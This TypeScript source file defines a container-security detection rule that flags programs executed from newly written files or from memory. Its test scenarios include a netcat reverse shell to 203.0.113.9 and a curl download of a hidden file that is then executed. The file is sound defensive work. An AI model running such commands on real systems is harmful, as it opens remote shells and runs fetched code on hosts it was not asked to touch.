import type { DetectionCase, ProcessFileAccess } from '../../model/detection-case.js';
import type { Evidence } from '../../model/finding.js';
import { executedImages, type ImageChange, type Process } from '../../model/process.js';
import { commandedRows, levelBelow } from '../commanded.js';
import type { Draft } from '../draft.js';
import { ancestorsInside } from '../lineage.js';
import { DESCRIPTOR_FILES, isHomeless, isMemoryOnly } from '../programs.js';
import { isSerious } from '../reach.js';
import { defineRule } from '../rule.js';
import { scenario } from '../scenario.js';
import { apart, command, imageEvidence, related, span } from '../wording.js';

/** SQLite bounds the values of one question. */
const NAMES_ASKED = 10_000;
const WRITING = new Set<ProcessFileAccess['operation']>(['write', 'truncate', 'rename']);

export const drift = defineRule({
  id: 'drift',
  title: 'Program that the image did not bring',
  description:
    'A container executes a file that was written there before, or a program that has no file at all. An image brings its programs with it; ' +
    'builds and installers make their own, so a written file is medium, and so is a program in memory unless it runs below a commanded ' +
    'shell. Container runtimes execute themselves from memory and are left out.',
  level: 'high',
  stage: 'consequence',
  attack: ['T1105', 'T1620'],
  needs: ['containers'],
  options: {},
  falsePositives: ['Builds, installers and tools that fetch their plug-ins.', 'Programs that unpack themselves into memory.'],
  *run({ view, stories }) {
    const commanded = commandedRows(stories);
    const written = writtenFiles(view);
    const told = new Set<string>();
    const shells = new Set(stories.filter(isSerious).map((story) => story.shell.id));
    for (const process of candidates(view, written)) {
      // A commanded program in memory is what its story is about.
      if (process.containerId === undefined || process.knownFrom === 'fork' || shells.has(process.id)) continue;
      for (const image of executedImages(process)) {
        const key = `${process.containerId} ${image.binary}`;
        const draft = told.has(key)
          ? undefined
          : (memoryDraft(view, process, image) ?? writtenDraft(view, process, image, written.get(key)));
        if (draft === undefined) continue;
        // A program of a container is one finding, however often it runs.
        told.add(key);
        yield { ...draft, level: levelBelow(commanded, process.id, 'medium') };
      }
    }
  },
  hits: [
    scenario(
      'a downloaded file is executed below a commanded shell',
      `
      container web
      0       node server.js
      1200      nc host 4444 -e /bin/sh
      1200.1      > tcp 203.0.113.9:4444
      1200.2      => /bin/sh
      1210        curl -s -o /opt/.x http://203.0.113.9/x
      1210.2        write /opt/.x
      1215        /opt/.x
    `,
    ),
    scenario(
      'a program runs from memory',
      `
      container web
      0       node server.js
      1200      /proc/self/fd/5 --pool
      1200      /proc/self/fd/5 -x 1
    `,
    ),
  ],
  nearMisses: [
    scenario(
      'a build runs what it made',
      `
      container build
      0       bash build.sh
      5         gcc -o /src/app app.c
      6           write /src/app
      8         /src/app --test
    `,
    ),
    scenario(
      'a runtime starts the container from memory',
      `
      container web
      0       /proc/self/fd/6 init
      0.1       => node server.js
    `,
    ),
  ],
});

/** Processes whose program may be one of those written, or has no file. A case may hold a million others. */
function* candidates(view: DetectionCase, written: ReadonlyMap<string, ProcessFileAccess>): Iterable<Process> {
  const names = [...written.values()].map(({ path }) => path.slice(path.lastIndexOf('/') + 1));
  yield* view.filelessProcesses();
  yield* view.processesNamed([...new Set([...DESCRIPTOR_FILES, ...names.slice(0, NAMES_ASKED)])]);
}

/** First write of each file, by container and path. */
function writtenFiles(view: DetectionCase): ReadonlyMap<string, ProcessFileAccess> {
  const written = new Map<string, ProcessFileAccess>();
  for (const access of view.allFileAccesses(WRITING)) {
    const containerId = view.outline(access.processId)?.containerId;
    const key = `${containerId} ${access.path}`;
    if (containerId !== undefined && !written.has(key)) written.set(key, access);
  }
  return written;
}

function memoryDraft(view: DetectionCase, process: Process, image: ImageChange): Omit<Draft, 'level'> | undefined {
  const isLast = image === process.images.at(-1);
  const isInMemory = isMemoryOnly(image) || (isLast && process.isFileless);
  if (!isInMemory || (isMemoryOnly(image) && !isHomeless(image)) || process.isMain) return undefined;
  return drafted(view, process, image, 'has no file: it was executed from memory, or its file was removed before', []);
}

function writtenDraft(
  view: DetectionCase,
  process: Process,
  image: ImageChange,
  access: ProcessFileAccess | undefined,
): Omit<Draft, 'level'> | undefined {
  const { atUs, evidence } = access ?? {};
  const startedAtUs = image.startedAtUs;
  if (access === undefined || atUs === undefined || evidence === undefined || startedAtUs === undefined || startedAtUs <= atUs)
    return undefined;
  const writer = view.process(access.processId);
  const by = writer === undefined ? 'another program' : `${command(writer)} (pid ${writer.pid})`;
  const summary = `pid ${writer?.pid}: ${access.operation} ${access.path}`;
  return drafted(
    view,
    process,
    image,
    `was written by ${by} ${apart(startedAtUs - atUs)} before`,
    [{ ...evidence, timeUs: atUs, summary }],
    writer,
  );
}

function drafted(
  view: DetectionCase,
  process: Process,
  image: ImageChange,
  words: string,
  evidence: readonly Evidence[],
  writer?: Process,
): Omit<Draft, 'level'> {
  const [starter] = ancestorsInside(view, process, 1);
  return {
    title: `${command(image)} ${words}`,
    why: `${command(image)} (pid ${process.pid}) ${words}${starter === undefined ? '' : `; ${command(starter)} started it`}.`,
    process,
    ...span(image.startedAtUs, ...evidence.map((one) => one.timeUs)),
    connections: [],
    related: [...(starter === undefined ? [] : [related(starter, 'parent')]), ...(writer === undefined ? [] : [related(writer, 'client')])],
    evidence: [...evidence, ...imageEvidence(process, image)],
    members: [process.id],
  };
}
